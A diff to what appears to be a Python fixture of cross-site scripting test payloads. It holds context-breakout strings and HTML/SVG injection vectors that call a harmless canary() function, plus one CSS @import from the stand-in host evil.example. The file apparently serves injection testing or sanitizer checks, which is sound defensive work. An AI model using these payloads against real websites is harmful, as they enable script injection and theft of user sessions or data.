@@ -25,7 +25,7 @@ OUT_OF = {
     "a remark in a script": "*/",
     "an element of a drawing": "</text></svg>",
     "a table": "</td></table>",
-    "a template": "}}{#",
+    "a template": "}}{%",
 }
 """Ends what the text stands in."""
 
@@ -43,7 +43,7 @@ DOES = {
     "style": "<style>@import'//evil.example'</style>",
     "object": "<object data=javascript:canary()>",
     "form": "<form><button formaction=javascript:canary()>",
-    "two scripts": "<!--<script>canary()//",
+    "two scripts": "<script><script>canary()//",
     "animation": "<svg><animate onbegin=canary() attributeName=x>",
     "attribute": '" onfocus=canary() autofocus tabindex=1 x="',
     "other attribute": "' onpointerover='canary()' x='",
